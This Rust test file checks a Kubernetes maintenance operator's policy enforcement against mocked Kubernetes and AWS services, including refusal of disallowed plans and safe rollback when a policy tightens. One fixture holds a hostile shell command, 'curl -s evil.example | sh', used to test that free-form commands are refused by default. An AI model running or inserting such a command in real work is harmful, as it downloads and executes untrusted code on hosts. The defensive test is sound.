//! The reconcile against a mock apiserver (tower-test) and the in-memory AWS, with
//! MaintenancePolicies: a plan outside its namespace's policy is failed with `NotAllowed`
//! and makes no AWS call at all; a policy that allows it later lets it go on; without a
//! policy only the restricted default applies; an instance already out when a policy
//! tightens is put back before the plan stops; and a policy's tag conditions are decided
//! from read-only calls, before any instance is touched.

mod reconcile_support;

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use k8s_openapi::api::core::v1::Namespace;
use kube::runtime::controller::Action;
use kube::runtime::reflector::{self, store::Writer};
use kube::runtime::watcher;
use pitstop::api::{
    AllowedDocument, InstancePhase, MaintenancePlanStatus, MaintenancePolicy, MaintenancePolicySpec,
    NamespaceSelection, PlanPhase,
};
use pitstop::aws::fake::FakeAws;
use pitstop::k8s::Context;
use pitstop::k8s::tenancy::Tenancy;
use pitstop::machine::NOT_ALLOWED;
use pitstop::tenancy::DefaultPolicy;
use reconcile_support::*;
use serde_json::json;

/// A pattern that covers the fake's target group (`.../targetgroup/web/...`).
const WEB_GROUPS: &str = "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/web/*";
/// A pattern that does not.
const TEAM_B_GROUPS: &str = "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/team-b-*/*";

fn policy(name: &str, target_groups: &str) -> MaintenancePolicy {
    MaintenancePolicy::new(
        name,
        MaintenancePolicySpec {
            namespaces: NamespaceSelection {
                names: vec![NAMESPACE.to_owned()],
                selector: None,
            },
            target_groups: vec![target_groups.to_owned()],
            target_group_tags: BTreeMap::new(),
            instance_tags: BTreeMap::new(),
            regions: vec!["eu-west-1".to_owned()],
            accounts: Vec::new(),
            allow_graceful_reboot: true,
            documents: vec![AllowedDocument {
                name: "AWS-RunPatchBaseline".to_owned(),
                version: None,
                parameters: None,
            }],
            allow_freeform_commands: false,
        },
    )
}

/// A context whose policies the test edits through the returned writer, as the reflector
/// would after a watch event.
fn context_with_policies(
    server_client: kube::Client,
    fake: &FakeAws,
    default: DefaultPolicy,
) -> (Arc<Context>, Writer<MaintenancePolicy>) {
    let (policies, writer) = reflector::store();
    let (namespaces, _) = reflector::store::<Namespace>();
    let clock_source = fake.clone();
    let ctx = Context::with_reporter(server_client, Arc::new(fake.clone()), POLL, "pitstop-test".into())
        .with_clock(Arc::new(move || clock_source.now()))
        .with_tenancy(Tenancy::new(policies, namespaces, default));
    (Arc::new(ctx), writer)
}

fn set_policy(writer: &mut Writer<MaintenancePolicy>, policy: MaintenancePolicy) {
    writer.apply_watcher_event(&watcher::Event::Apply(policy));
}

fn refused(status: &MaintenancePlanStatus) -> bool {
    status.phase == PlanPhase::Failed
        && status
            .conditions
            .iter()
            .any(|c| c.type_ == "Failed" && c.status == "True" && c.reason == NOT_ALLOWED)
}

#[tokio::test]
async fn a_plan_outside_its_policy_fails_not_allowed_with_no_aws_call_and_runs_once_allowed() {
    tokio::time::timeout(TEST_TIMEOUT, async {
        let fake = fake_aws();
        let (mut server, client) = ApiServer::start();
        let (ctx, mut policies) = context_with_policies(client, &fake, DefaultPolicy::Restricted);
        set_policy(&mut policies, policy("team-b", TEAM_B_GROUPS));
        server.insert(plan_json("web", &IDS, json!({})));
        add_finalizer(&mut server, &ctx, &fake, "web").await;

        let action = server.reconcile(&ctx, "web").await.expect("refused, not an error");
        assert_eq!(
            action,
            Action::await_change(),
            "waits for the plan or a policy to change"
        );
        let calls = server.take_calls();
        let [Call::ApplyStatus { status, .. }, Call::Event(warning)] = &calls[..] else {
            panic!("a status write, then a warning: {calls:?}")
        };
        assert!(refused(status), "{status:#?}");
        let expected =
            format!("not allowed by MaintenancePolicy team-b (target group {ARN} matches none of its targetGroups)");
        assert_eq!(status.message.as_deref(), Some(expected.as_str()));
        assert_eq!(
            (warning.type_.as_str(), warning.reason.as_str()),
            ("Warning", NOT_ALLOWED)
        );
        assert!(warning.note.contains(&expected), "{}", warning.note);
        assert_eq!(fake.call_count(), 0, "no AWS call, not even a read, for a refused plan");
        assert!(server.take_lease_calls().is_empty(), "nor a target group lease");

        // Seen again (a resync), nothing is written and nothing called.
        server.reconcile(&ctx, "web").await.expect("still refused");
        assert_eq!(server.take_calls(), []);
        assert_eq!(fake.call_count(), 0);

        // The platform team widens the policy: a new evaluation, and the plan runs.
        set_policy(&mut policies, policy("team-b", WEB_GROUPS));
        let run = drive(&mut server, &ctx, &fake, "web", |_| false).await;
        assert_eq!(run.events()[0], event("Normal", "Allowed", "Plan"));
        let last = server.status("web").expect("a status");
        assert_eq!(last.phase, PlanPhase::Succeeded, "{last:#?}");
        assert!(!refused(&last));
        assert_eq!(aws_writes(&fake).len(), 9, "three instances, three writes each");

        // Tightened again after the plan finished: it will not run again, so its record stays.
        set_policy(&mut policies, policy("team-b", TEAM_B_GROUPS));
        let calls_before = fake.call_count();
        assert_eq!(
            server.reconcile(&ctx, "web").await.expect("idle"),
            Action::await_change()
        );
        assert_eq!(server.take_calls(), []);
        assert_eq!(server.status("web").map(|s| s.phase), Some(PlanPhase::Succeeded));
        assert_eq!(fake.call_count(), calls_before);
        server.stop(ctx).await;
    })
    .await
    .expect("test timed out");
}

#[tokio::test]
async fn without_a_policy_free_form_commands_are_refused_unless_the_default_is_unrestricted() {
    tokio::time::timeout(TEST_TIMEOUT, async {
        let shell = json!({ "maintenance": { "documentName": "AWS-RunShellScript", "parameters": { "commands": ["curl -s evil.example | sh"] } } });

        let fake = fake_aws();
        let (mut server, client) = ApiServer::start();
        let (ctx, _policies) = context_with_policies(client, &fake, DefaultPolicy::Restricted);
        server.insert(with_finalizer(plan_json("shell", &IDS, shell.clone())));
        server.reconcile(&ctx, "shell").await.expect("refused");
        let status = server.status("shell").expect("a status");
        assert!(refused(&status), "{status:#?}");
        let message = status.message.unwrap_or_default();
        assert!(
            message.starts_with("not allowed in namespace default: no MaintenancePolicy selects it")
                && message.contains("maintenance document AWS-RunShellScript is not in its documents"),
            "{message}"
        );
        assert_eq!(fake.call_count(), 0);
        // The built-in graceful reboot is allowed by the same default.
        server.insert(with_finalizer(plan_json("reboot", &IDS, json!({}))));
        server.reconcile(&ctx, "reboot").await.expect("runs");
        assert!(aws_writes(&fake).contains(&("DeregisterTargets", IDS[0].to_owned())));
        server.stop(ctx).await;

        let fake = fake_aws();
        let (mut server, client) = ApiServer::start();
        let (ctx, _policies) = context_with_policies(client, &fake, DefaultPolicy::Unrestricted);
        server.insert(with_finalizer(plan_json("shell", &IDS, shell)));
        server.reconcile(&ctx, "shell").await.expect("runs");
        assert_eq!(server.status("shell").map(|s| s.phase), Some(PlanPhase::Running));
        assert!(aws_writes(&fake).contains(&("DeregisterTargets", IDS[0].to_owned())));
        server.stop(ctx).await;
    })
    .await
    .expect("test timed out");
}

#[tokio::test]
async fn an_instance_out_when_the_policy_tightens_is_put_back_before_the_plan_stops() {
    tokio::time::timeout(TEST_TIMEOUT, async {
        let fake = fake_aws();
        let (mut server, client) = ApiServer::start();
        let (ctx, mut policies) = context_with_policies(client, &fake, DefaultPolicy::Restricted);
        set_policy(&mut policies, policy("web", WEB_GROUPS));
        server.insert(plan_json("web", &IDS, json!({})));
        add_finalizer(&mut server, &ctx, &fake, "web").await;
        server.reconcile(&ctx, "web").await.expect("first instance taken out");
        assert_eq!(aws_writes(&fake), [("DeregisterTargets", IDS[0].to_owned())]);
        server.take_calls();

        set_policy(&mut policies, policy("web", TEAM_B_GROUPS));
        let run = drive(&mut server, &ctx, &fake, "web", |_| false).await;
        let statuses = run.statuses();
        use InstancePhase::*;
        assert_eq!(
            phases_of(&statuses, IDS[0]),
            [Draining, Rebooting, Verifying, Registered],
            "the instance out is finished and put back"
        );
        let last = server.status("web").expect("a status");
        assert!(refused(&last), "then the plan stops: {last:#?}");
        assert_eq!(last.progress.as_deref(), Some("1/3"));
        let writes = aws_writes(&fake);
        assert_eq!(
            writes.last(),
            Some(&("RegisterTargets", IDS[0].to_owned())),
            "{writes:?}"
        );
        assert!(
            writes.iter().all(|(_, id)| id == IDS[0]),
            "no other instance is touched: {writes:?}"
        );
        assert_eq!(fake.state(ARN, IDS[0]), pitstop::aws::TargetState::Healthy);
        server.stop(ctx).await;
    })
    .await
    .expect("test timed out");
}

#[tokio::test]
async fn a_policy_asking_for_tags_refuses_an_untagged_instance_with_reads_only_and_allows_it_once_tagged() {
    tokio::time::timeout(TEST_TIMEOUT, async {
        const MANAGED: (&str, &str) = ("pitstop.dev/managed", "true");
        let fake = fake_aws();
        fake.set_group_tags(ARN, &[MANAGED, ("team", "web")]);
        fake.set_instance(IDS[0], "eu-west-1a", &[MANAGED]);
        fake.set_instance(IDS[1], "eu-west-1b", &[MANAGED]);
        // The last one is someone else's: it must stop the plan before the first is touched.
        fake.set_instance(IDS[2], "eu-west-1c", &[("Name", "database")]);
        let (mut server, client) = ApiServer::start();
        let (ctx, mut policies) = context_with_policies(client, &fake, DefaultPolicy::Restricted);
        let managed = BTreeMap::from([(MANAGED.0.to_owned(), MANAGED.1.to_owned())]);
        let mut tagged = policy("managed", WEB_GROUPS);
        tagged.spec.instance_tags = managed.clone();
        tagged.spec.target_group_tags = managed.clone();
        set_policy(&mut policies, tagged);
        server.insert(plan_json("web", &IDS, json!({})));
        add_finalizer(&mut server, &ctx, &fake, "web").await;

        let action = server.reconcile(&ctx, "web").await.expect("refused, not an error");
        assert_eq!(
            action,
            Action::requeue(Duration::from_secs(300)),
            "a tag added on AWS wakes nothing: the tags are read again later"
        );
        let status = server.status("web").expect("a status");
        assert!(refused(&status), "{status:#?}");
        assert_eq!(
            status.message.as_deref(),
            Some(
                format!(
                    "not allowed by MaintenancePolicy managed (instances must carry its instanceTags: {} lacks \
                     pitstop.dev/managed=true)",
                    IDS[2]
                )
                .as_str()
            )
        );
        assert_eq!(aws_writes(&fake), [], "nothing changed on AWS");
        assert_eq!(fake.call_count(), 2, "one DescribeTags, one DescribeInstances");
        assert!(server.take_lease_calls().is_empty(), "no target group lease either");

        // Looked at again with nothing changed: the same reads, no new status, no new event.
        server.take_calls();
        server.reconcile(&ctx, "web").await.expect("still refused");
        assert_eq!(server.take_calls(), []);
        assert_eq!(fake.call_count(), 4);

        // An untagged target group is refused as well, naming the group.
        fake.set_group_tags(ARN, &[("team", "web")]);
        server.reconcile(&ctx, "web").await.expect("still refused");
        let message = server.status("web").and_then(|s| s.message).unwrap_or_default();
        assert!(
            message.contains(&format!(
                "target group {ARN} lacks its targetGroupTags pitstop.dev/managed=true"
            )),
            "{message}"
        );

        // The account owner tags both: the next look lets the plan run to the end.
        fake.set_group_tags(ARN, &[MANAGED]);
        fake.set_instance(IDS[2], "eu-west-1c", &[MANAGED, ("Name", "web-3")]);
        let run = drive(&mut server, &ctx, &fake, "web", |_| false).await;
        assert_eq!(run.events()[0], event("Normal", "Allowed", "Plan"));
        let last = server.status("web").expect("a status");
        assert_eq!(last.phase, PlanPhase::Succeeded, "{last:#?}");
        assert_eq!(aws_writes(&fake).len(), 9, "three instances, three writes each");
        server.stop(ctx).await;
    })
    .await
    .expect("test timed out");
}
